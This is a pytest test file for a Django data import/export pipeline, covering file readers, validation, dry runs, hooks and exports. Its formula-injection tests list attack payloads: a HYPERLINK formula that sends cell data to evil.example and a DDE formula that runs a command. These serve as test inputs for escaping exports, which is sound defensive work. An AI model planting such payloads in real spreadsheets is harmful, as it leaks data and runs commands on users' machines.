"""The import/export pipeline: readers, validation, idempotence, dry run, hooks, commands."""

from __future__ import annotations

import json
import time

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation
from openpyxl import Workbook, load_workbook

from openstx.core import importing
from openstx.core.importing import Column, Importer, ImportFileError, RowError
from openstx.directory.models import Expert, Organization
from openstx.taxonomy import services as taxonomy
from tests.factories import ExpertFactory, UserFactory

# --- A tiny in-memory importer exercises the generic pipeline ---------------------------------

STORE: dict[str, dict] = {}


@importing.register
class ThingImporter(Importer):
    kind = "test-things"
    columns = [
        Column("external_id", required=True),
        Column("name", required=True, parse=importing.text(20)),
        Column("size", parse=importing.integer(1, 9), default=None),
        Column("tags", multiple=True),
        Column("active", parse=importing.boolean(), default=False),
        Column("day", parse=importing.date(), default=None),
        Column("price", parse=importing.decimal(), default=None),
    ]

    def apply(self, row, ctx):
        values = {k: v for k, v in row.values.items() if k != "external_id"}
        old = STORE.get(row.key)
        STORE[row.key] = values
        if old is None:
            return importing.CREATED, row.key
        return (importing.UNCHANGED if old == values else importing.UPDATED), row.key


@pytest.fixture(autouse=True)
def _clear_store():
    STORE.clear()


@pytest.fixture(autouse=True)
def _english():
    """Messages are asserted in English (the catalogue gives Vietnamese by default)."""
    with translation.override("en"):
        yield


def write(tmp_path, name, content, encoding="utf-8"):
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding=encoding)
    return path


def test_csv_rows_are_validated_and_reported_with_line_numbers(tmp_path, db):
    path = write(
        tmp_path,
        "things.csv",
        "external_id,name,size,tags,active,day,price\n"
        'a,  Chế   phẩm ,3,x; y,có,01/07/2025,"1.500.000"\n'
        "b,,3,,,,\n"  # name missing
        "c,Ok,12,,,,\n"  # size out of range
        "d,Ok,2,,maybe,2025-13-01,\n"  # two errors
        "a,Dup,1,,,,\n",  # duplicate key
    )
    result = importing.run_import("test-things", path)
    assert (result.created, result.updated, result.unchanged) == (1, 0, 0)
    assert [r.line for r in result.rejected] == [3, 4, 5, 6]
    reasons = {r.line: r.reason for r in result.rejected}
    assert "name" in reasons[3] and "required" in reasons[3]
    assert "size" in reasons[4] and "9" in reasons[4]
    assert "active" in reasons[5] and "day" in reasons[5]
    assert "duplicate" in reasons[6] and "line 2" in reasons[6]
    assert STORE["a"]["name"] == "Chế phẩm"
    assert STORE["a"]["tags"] == ["x", "y"]
    assert STORE["a"]["active"] is True
    assert str(STORE["a"]["price"]) == "1500000"
    assert not result.ok


def test_nfd_input_is_stored_nfc(tmp_path, db):
    import unicodedata

    nfd = unicodedata.normalize("NFD", "Thủy sản")
    path = write(tmp_path, "t.jsonl", json.dumps({"external_id": "a", "name": nfd}) + "\n")
    importing.run_import("test-things", path)
    assert STORE["a"]["name"] == unicodedata.normalize("NFC", "Thủy sản")


@pytest.mark.parametrize(
    "encoding,prefix",
    [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16", b""), ("cp1258", b"")],
)
def test_csv_encodings(tmp_path, db, encoding, prefix):
    content = "external_id;name\nx;Cần Thơ\n"
    if encoding == "cp1258":
        # cp1258 stores tones as combining marks: "ă" + U+0300; the reader must give NFC "ằ"
        content = "external_id;name\nx;Cao B\u0103\u0300ng\n"
    data = prefix + content.encode(encoding)
    path = write(tmp_path, "enc.csv", data)
    result = importing.run_import("test-things", path)
    assert result.ok, result.rejected
    assert STORE["x"]["name"] in ("Cần Thơ", "Cao Bằng")


def test_jsonl_bad_lines_and_lists(tmp_path, db):
    lines = [
        json.dumps({"external_id": "a", "name": "A", "tags": ["p", " q "], "size": 2}),
        "",
        "{not json",
        json.dumps(["not", "an", "object"]),
        json.dumps({"external_id": "b", "name": "B", "size": 2.0}),
    ]
    path = write(tmp_path, "t.jsonl", "\n".join(lines) + "\n")
    result = importing.run_import("test-things", path)
    assert result.created == 2
    assert [r.line for r in result.rejected] == [3, 4]
    assert STORE["a"]["tags"] == ["p", "q"]
    assert STORE["b"]["size"] == 2


def test_xlsx_reader(tmp_path, db):
    import datetime as dt

    wb = Workbook()
    ws = wb.active
    ws.append(["External ID", "Name", "Size", "Day"])
    ws.append(["a", "Một", 3, dt.datetime(2025, 7, 1)])
    ws.append([None, None, None, None])
    ws.append(["b", None, 3, None])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    result = importing.run_import("test-things", path)
    assert result.created == 1
    assert [r.line for r in result.rejected] == [4]
    assert STORE["a"]["day"] == dt.date(2025, 7, 1)


def test_missing_required_column_rejects_the_file(tmp_path, db):
    path = write(tmp_path, "t.csv", "external_id,size\na,1\n")
    with pytest.raises(ImportFileError, match="name"):
        importing.run_import("test-things", path)


def test_unknown_kind_and_format(tmp_path, db):
    with pytest.raises(ImportFileError, match="Unknown kind"):
        importing.get_importer("nope")
    path = write(tmp_path, "t.pdf", "x")
    with pytest.raises(ImportFileError):
        importing.run_import("test-things", path)


def test_unknown_columns_warn(tmp_path, db):
    path = write(tmp_path, "t.csv", "external_id,name,colour\na,A,red\n")
    result = importing.run_import("test-things", path)
    assert result.ok
    assert any("colour" in w for w in result.warnings)


def test_choice_parser_accepts_codes_and_labels():
    parse = importing.choice(Organization.Type, {"Viện": "research_institute"})
    ctx = importing.ImportContext(kind="x")
    assert parse("university", ctx) == "university"
    assert parse("Research institute", ctx) == "research_institute"
    assert parse("vien", ctx) == "research_institute"
    with pytest.raises(RowError):
        parse("castle", ctx)


# --- Organisations and experts: the real model importers ---------------------------------------

ORG_CSV = (
    "external_id,name,short_name,type,tax_code,address,admin_unit,fields,website,description\n"
    'ORG-1,Trường Đại học Cần Thơ,CTU,Trường đại học,1800123456,"Khu II, đường 3/2",'
    'TP. Cần Thơ,Khoa học tự nhiên; 10616,ctu.edu.vn,"Đa ngành\nđa lĩnh vực"\n'
    "ORG-2,Viện Lúa ĐBSCL,,research_institute,1800123456-001,,Hậu Giang,Khoa học nông nghiệp,,\n"
    "ORG-3,,,,,,,,,\n"
    "ORG-4,Công ty X,,bogus,12345,,Atlantis,xyz,not a url,\n"
)


@pytest.fixture
def taxonomies(db):
    taxonomy.load_fields_of_science()
    taxonomy.load_admin_units()


def test_organizations_csv_import(tmp_path, taxonomies):
    path = write(tmp_path, "orgs.csv", ORG_CSV)
    result = importing.run_import("organizations", path)
    assert (result.created, len(result.rejected)) == (2, 2)
    assert [r.line for r in result.rejected] == [5, 6]  # ORG-1 spans lines 2-3
    bad = result.rejected[1].reason
    for column in ("type", "tax_code", "admin_unit", "fields", "website"):
        assert column in bad
    ctu = Organization.objects.get(external_id="ORG-1")
    assert ctu.type == "university"
    assert ctu.admin_unit.code == "92"
    assert sorted(f.code for f in ctu.fields.all()) == ["1", "10616"]
    assert ctu.website == "https://ctu.edu.vn"
    assert ctu.description == "Đa ngành\nđa lĩnh vực"
    assert ctu.slug == "ctu"
    assert ctu.history.count() == 1
    rice = Organization.objects.get(external_id="ORG-2")
    assert rice.admin_unit.name == "Thành phố Cần Thơ"  # Hậu Giang merged into Cần Thơ
    assert rice.tax_code == "1800123456-001"

    again = importing.run_import("organizations", path)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    assert Organization.objects.count() == 2
    assert ctu.history.count() == 1


def test_update_changes_only_given_columns(tmp_path, taxonomies):
    importing.run_import("organizations", write(tmp_path, "a.csv", ORG_CSV))
    path = write(
        tmp_path,
        "b.csv",
        "external_id,name,fields,website\nORG-1,Trường Đại học Cần Thơ,10616,\n",
    )
    result = importing.run_import("organizations", path)
    assert result.updated == 1
    ctu = Organization.objects.get(external_id="ORG-1")
    assert ctu.short_name == "CTU"  # column absent: untouched
    assert ctu.website == ""  # blank cell: cleared
    assert [f.code for f in ctu.fields.all()] == ["10616"]
    assert ctu.history.count() == 2


def test_dry_run_writes_nothing(tmp_path, taxonomies):
    path = write(tmp_path, "orgs.csv", ORG_CSV)
    result = importing.run_import("organizations", path, dry_run=True)
    assert result.created == 2 and len(result.rejected) == 2
    assert Organization.objects.count() == 0
    with pytest.raises(CommandError):
        call_command(
            "import", "organizations", str(path), "--dry-run", "--no-progress", "--no-index"
        )
    assert Organization.objects.count() == 0


def test_import_command_exit_status(tmp_path, taxonomies, capsys):
    bad = write(tmp_path, "orgs.csv", ORG_CSV)
    with pytest.raises(CommandError) as exc:
        call_command("import", "organizations", str(bad), "--no-progress", "--no-index")
    assert exc.value.returncode == 1
    err = capsys.readouterr().err
    assert "line 5" in err and "line 6" in err
    good = write(tmp_path, "good.csv", "\n".join(ORG_CSV.split("\n")[:4]) + "\n")
    call_command("import", "organizations", str(good), "--no-progress", "--no-index")
    out = capsys.readouterr().out
    assert "0 created" in out and "2 unchanged" in out


def test_experts_jsonl_creates_organisations_by_name(tmp_path, taxonomies):
    rows = [
        {
            "external_id": "E-1",
            "full_name": "Nguyễn Văn A",
            "academic_title": "Phó giáo sư",
            "degree": "Tiến sĩ",
            "organization": "Công ty Mới",
            "fields": "Công nghệ sinh học",
            "email": "A@Example.vn",
            "phone": "2923831234",
            "orcid": "https://orcid.org/0000-0002-1825-0097",
        },
        {
            "external_id": "E-2",
            "full_name": "B",
            "organization": "Công ty Hỏng",
            "orcid": "0000-0002-1825-0098",
        },
        {"external_id": "E-3", "full_name": "C", "organization": "cong ty moi"},
    ]
    path = write(tmp_path, "e.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in rows))
    with translation.override("en"):
        result = importing.run_import("experts", path)
    assert result.created == 2
    assert [r.line for r in result.rejected] == [2]
    assert "check digit" in result.rejected[0].reason
    # the organisation named only by the rejected row was not left behind
    assert list(Organization.objects.values_list("name", flat=True)) == ["Công ty Mới"]
    a = Expert.objects.get(external_id="E-1")
    assert (a.academic_title, a.degree) == ("PGS", "TS")
    assert a.email == "a@example.vn"
    assert a.phone == "02923831234"
    assert a.orcid == "0000-0002-1825-0097"
    assert a.organization.name == "Công ty Mới"
    assert Expert.objects.get(external_id="E-3").organization == a.organization
    assert [f.code for f in a.fields.all()] == ["10616"]
    assert a.slug == "nguyen-van-a"


def test_export_round_trip_in_every_format(tmp_path, taxonomies):
    importing.run_import("organizations", write(tmp_path, "orgs.csv", ORG_CSV))
    for ext in ("csv", "jsonl", "xlsx"):
        out = tmp_path / f"out.{ext}"
        assert importing.run_export("organizations", out) == 2
        result = importing.run_import("organizations", out)
        assert result.ok, result.rejected
        assert (result.created, result.updated, result.unchanged) == (0, 0, 2), ext
    wb = load_workbook(tmp_path / "out.xlsx", read_only=True)
    header = next(wb.worksheets[0].iter_rows(values_only=True))
    assert list(header) == [c.name for c in importing.get_importer("organizations").columns]


def test_export_hides_expert_contacts_from_anonymous(tmp_path, db):
    ExpertFactory(external_id="E-9", email="secret@example.vn", phone="0909 123 456")
    out = tmp_path / "e.jsonl"
    importing.run_export("experts", out, user=AnonymousUser())
    row = json.loads(out.read_text().splitlines()[0])
    assert row["email"] == "" and row["phone"] == ""
    importing.run_export("experts", out, user=UserFactory())
    row = json.loads(out.read_text().splitlines()[0])
    assert row["email"] == "secret@example.vn"
    call_command("export", "experts", str(out), "--public", "--no-progress")
    assert "secret@" not in out.read_text()
    call_command("export", "experts", str(out), "--no-progress")
    assert "secret@" in out.read_text()


def test_hooks_run_after_commit_only(tmp_path, taxonomies, django_capture_on_commit_callbacks):
    seen = []
    signalled = []

    def hook(kind, model, pks, context):
        seen.append((kind, model, sorted(pks)))

    def listener(sender, kind, pks, context, **kwargs):
        signalled.append((sender, len(pks)))

    importing.on_committed(hook)
    importing.records_imported.connect(listener)
    try:
        path = write(tmp_path, "orgs.csv", ORG_CSV)
        with django_capture_on_commit_callbacks(execute=True):
            importing.run_import("organizations", path, dry_run=True)
        assert seen == []
        with django_capture_on_commit_callbacks(execute=True):
            importing.run_import("organizations", path)
        assert seen and seen[0][0] == "organizations" and len(seen[0][2]) == 2
        assert signalled[-1] == (Organization, 2)
        seen.clear()
        with django_capture_on_commit_callbacks(execute=True):
            importing.run_import("organizations", path)
        assert seen == []  # nothing changed, nothing to re-index
    finally:
        importing._committed_hooks.remove(hook)
        importing.records_imported.disconnect(listener)


def test_bulk_speed(tmp_path, taxonomies):
    n = 3000
    lines = ["external_id,name,type,admin_unit,fields"]
    lines += [f"O{i},Tổ chức số {i},enterprise,Cần Thơ,10616;1" for i in range(n)]
    path = write(tmp_path, "many.csv", "\n".join(lines) + "\n")
    started = time.monotonic()
    result = importing.run_import("organizations", path)
    elapsed = time.monotonic() - started
    assert result.created == n
    # generous floor: the CI machine is shared; measured ≈3,000 rows/s on an idle 2-core box
    assert n / elapsed > 150, f"{n / elapsed:.0f} rows/s"
    started = time.monotonic()
    again = importing.run_import("organizations", path)
    assert again.unchanged == n
    assert n / (time.monotonic() - started) > 300


def test_failed_batch_is_retried_row_by_row_and_forgets_its_creations(
    tmp_path, taxonomies, monkeypatch
):
    from django.db import DatabaseError

    from openstx.directory.importers import ExpertImporter

    original = ExpertImporter._write_batch

    def flaky(self, rows, ctx):
        if len(rows) > 1:
            raise DatabaseError("simulated failure of the bulk write")
        return original(self, rows, ctx)

    monkeypatch.setattr(ExpertImporter, "_write_batch", flaky)
    rows = [
        {"external_id": "E-1", "full_name": "A", "organization": "Hợp tác xã Mới"},
        {"external_id": "E-2", "full_name": "B", "organization": "hop tac xa moi"},
        {"external_id": "E-3", "full_name": "C"},
    ]
    path = write(tmp_path, "e.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in rows))
    result = importing.run_import("experts", path)
    assert result.ok and result.created == 3
    org = Organization.objects.get()
    assert org.name == "Hợp tác xã Mới"
    assert set(Expert.objects.filter(organization=org).values_list("external_id", flat=True)) == {
        "E-1",
        "E-2",
    }
    assert sum("Hợp tác xã Mới" in w for w in result.warnings) == 1


def test_import_command_leaves_records_searchable(tmp_path, taxonomies, settings):
    from openstx.search import service

    settings.SEARCH_INDEX_DIR = tmp_path / "search"
    settings.SEARCH_NODE_NAME = f"test-node:{tmp_path.name}"
    settings.SEARCH_APPLY = ""
    good = write(tmp_path, "good.csv", "\n".join(ORG_CSV.split("\n")[:4]) + "\n")
    experts = write(
        tmp_path,
        "e.csv",
        "external_id,full_name,organization,keywords\nE-1,Phạm Thị Lúa,ORG-2,giống lúa chịu mặn\n",
    )
    call_command("import", "organizations", str(good), "--no-progress")
    call_command("import", "experts", str(experts), "--no-progress")
    results = service.search("Viện Lúa")
    assert "organization" in {h.type for h in results.hits}
    results = service.search("lua chiu man")
    # graded matching (#16) may add partial hits (the institute "Viện Lúa"); the expert whose
    # keywords hold every word comes first
    assert results.hits[0].type == "expert" and results.hits[0].external_id == "E-1"


# --- Spreadsheet formula injection (issue #15 item 3) ------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
]


def test_escape_formula_is_exactly_undone_by_the_reader():
    for value in [*FORMULAS, "\t=1+1", "\r=1+1", "''@x", "-5", "+84 912 345 678", "'quoted", ""]:
        escaped = importing.escape_formula(value)
        assert importing.unescape_formula(escaped) == value
        if value[:2] in ("=H", "=1", "+1", "-2", "@S", "'=", "\t=", "\r=", "''"):
            assert escaped.startswith("'"), value
    assert importing.escape_formula("-5") == "-5"  # a plain number is not a formula
    assert importing.escape_formula(12) == 12


def test_export_writes_no_live_formula_and_reimport_reads_the_same(tmp_path, taxonomies):
    importing.run_import("organizations", write(tmp_path, "orgs.csv", ORG_CSV))
    names = {f"ORG-F{i}": value for i, value in enumerate(FORMULAS)}
    for key, value in names.items():
        Organization.objects.create(external_id=key, name=value, short_name=value[:20])
    for ext in ("csv", "xlsx"):
        out = tmp_path / f"out.{ext}"
        importing.run_export("organizations", out)
        if ext == "xlsx":
            sheet = load_workbook(out).worksheets[0]  # not data_only: formulas would show
            cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
            assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
            assert {c.value for c in cells} >= set(FORMULAS)
        else:
            text = out.read_text(encoding="utf-8-sig")
            assert "\n=1+1" not in text and ",=1+1" not in text
            assert "'=1+1" in text and "'@SUM(1+1)" in text and "'-2+3" in text
            assert "''=already quoted" in text
        result = importing.run_import("organizations", out)
        assert result.ok, result.rejected
        assert (result.created, result.updated, result.unchanged) == (0, 0, 2 + len(names)), ext
    for key, value in names.items():
        assert Organization.objects.get(external_id=key).name == value


def test_xlsx_row_keeps_formula_text_as_a_string_in_both_workbook_modes(tmp_path):
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("s") if write_only else wb.active
        ws.append(importing.xlsx_row(ws, ["=1+1", 3, None, "text"]))
        wb.save(tmp_path / "x.xlsx")
        cell = load_workbook(tmp_path / "x.xlsx").worksheets[0]["A1"]
        assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_report_csv_is_neutralised():
    from openstx.reports.registry import COUNT, Indicator, Row
    from openstx.reports.services import IndicatorTable, to_csv

    indicator = Indicator()
    indicator.key, indicator.unit = "k", COUNT
    rows = [Row(year=2020, group="=1+1", label="@cmd", value=1)]
    table = IndicatorTable(indicator, 2020, 2020, [2020], [], rows=rows)
    text = to_csv(table)
    assert "'=1+1" in text and "'@cmd" in text


# --- Damaged files (issue #15 item 7) ----------------------------------------------------------


def test_jsonl_with_invalid_utf8_rejects_that_line_and_imports_the_rest(tmp_path, db, capsys):
    lines = [
        '{"external_id": "a", "name": "Một"}'.encode(),
        b'{"external_id": "b", "name": "\xff\xfe bad"}',
        b'{"external_id": "c", "name": "Ba"}',
    ]
    path = write(tmp_path, "t.jsonl", b"\n".join(lines) + b"\n")
    result = importing.run_import("test-things", path)
    assert sorted(STORE) == ["a", "c"]
    assert [(r.line, "UTF-8" in r.reason) for r in result.rejected] == [(2, True)]


def test_csv_with_an_unbalanced_quote_rejects_that_line_and_imports_the_rest(tmp_path, db):
    content = 'external_id,name\na,One\nb,"Two\nc,Three\nd,"Four"x\ne,Five\n'
    result = importing.run_import("test-things", write(tmp_path, "t.csv", content))
    assert sorted(STORE) == ["a", "c", "e"]
    assert [r.line for r in result.rejected] == [3, 5]
    assert "quote" in result.rejected[0].reason
    assert STORE["c"]["name"] == "Three"


def test_import_command_names_the_bad_lines_and_exits_non_zero(tmp_path, db, capsys):
    path = write(tmp_path, "t.jsonl", b'{"external_id": "a", "name": "A"}\n\xc3(\n')
    with pytest.raises(CommandError) as exc:
        call_command("import", "test-things", str(path), "--no-progress", "--no-index")
    assert exc.value.returncode == 1
    assert "line 2" in capsys.readouterr().err
    path = write(tmp_path, "t.csv", 'external_id,name\nb,"B\nc,C\n')
    with pytest.raises(CommandError) as exc:
        call_command("import", "test-things", str(path), "--no-progress", "--no-index")
    assert exc.value.returncode == 1
    assert "line 2" in capsys.readouterr().err
    assert sorted(STORE) == ["a", "c"]


def test_the_pipeline_is_a_package_of_small_modules_and_ipr_keeps_its_names():
    """Issue #18: core.importing split along its seams, no module over 700 lines; the generic
    sheet reader lives in core, ipr keeps a thin import and its synonyms are data."""
    from pathlib import Path

    from openstx.core.importing import sheets
    from openstx.ipr import importers as ipr_importers
    from openstx.ipr import sheets as ipr_sheets

    package = Path(importing.__file__).parent
    sizes = {p.name: len(p.read_text().splitlines()) for p in package.glob("*.py")}
    assert {"columns.py", "readers.py", "pipeline.py", "export.py", "sheets.py"} <= set(sizes)
    assert max(sizes.values()) <= 700, sizes
    assert ipr_sheets.SheetReader is sheets.SheetReader is importing.SheetReader
    assert ipr_importers.TYPE_ALIASES["NH"] == "trademark"
    assert "số đơn" in ipr_importers.IP_SYNONYMS["application_number"]
